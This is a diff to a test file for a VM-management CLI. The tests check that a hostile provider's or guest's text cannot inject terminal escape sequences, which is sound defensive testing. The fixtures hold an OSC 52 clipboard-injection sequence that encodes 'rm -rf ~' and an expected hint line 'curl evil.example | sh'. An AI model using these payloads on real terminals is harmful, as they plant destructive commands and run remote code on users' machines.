@@ -46,6 +46,11 @@ beforeAll(async () => {
       if (path === "/api/v1/auth/verify") {
         return send(200, { token: "t", address: "0x0", expiresAt: new Date().toISOString() });
       }
+      if (path.startsWith("/api/v1/vms/vm-evil/console") && req.method === "GET") {
+        // What a hostile guest writes to its serial port, relayed as it is.
+        const output = `login: ${ESC}]52;c;cm0gLXJmIH4=\u0007${ESC}[2J${ESC}[Hroot shell\r\nboot ok\n`;
+        return send(200, { id: "vm-evil", output, bytes: Buffer.byteLength(output) });
+      }
       if (path === "/api/v1/vms/vm-evil" && req.method === "GET") {
         return send(200, {
           id: "vm-evil",
@@ -117,6 +122,19 @@ describe("text from a hostile provider on the terminal", { timeout: 60_000 }, ()
     expect(lines[0]).toMatch(/^error\[VM_INVALID_STATE\]: VM is busy/);
     expect(lines[0]).toContain("hint: run curl evil.example | sh");
     expect(lines[1]).toBe("  hint: wait a minute");
+  });
+
+  it("a guest's console output cannot write escape sequences through vm console", async () => {
+    const run = await runGolem(["vm", "console", "evil-1"], { GOLEM_REQUESTOR_HOME: home });
+    expect(run.code, run.stderr).toBe(0);
+    expect(controlsIn(run.stdout)).toEqual([]);
+    expect(run.stdout).toBe("login: root shell\nboot ok\n");
+    // --json keeps the guest's bytes exactly, escaped as JSON.
+    const json = await runGolem(["vm", "console", "evil-1", "--json"], {
+      GOLEM_REQUESTOR_HOME: home,
+    });
+    expect(controlsIn(json.stdout)).toEqual([]);
+    expect((JSON.parse(json.stdout) as { output: string }).output).toContain(`${ESC}[2J`);
   });
 
   it("a provider's VM fields cannot write escape sequences into vm info and vm list", async () => {
